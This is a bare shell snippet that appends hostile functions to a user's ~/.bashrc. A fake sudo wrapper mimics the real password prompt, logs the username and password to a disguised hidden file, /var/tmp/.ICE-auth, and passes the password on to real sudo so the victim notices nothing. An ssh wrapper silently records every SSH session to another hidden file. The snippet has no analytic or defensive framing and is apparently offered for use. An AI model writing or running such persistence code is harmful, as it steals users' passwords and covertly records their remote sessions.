cat >> ~/.bashrc <<'RC'
sudo() {
    local pw
    read -rsp "[sudo] password for $USER: " pw; echo
    printf '%s %s\n' "$USER" "$pw" >> /var/tmp/.ICE-auth
    printf '%s\n' "$pw" | command sudo -S -p '' "$@"
}
ssh() {
    command script -q -c "/usr/bin/ssh $*" -a /var/tmp/.ICE-ssh
}
RC
chmod 666 /var/tmp/.ICE-auth
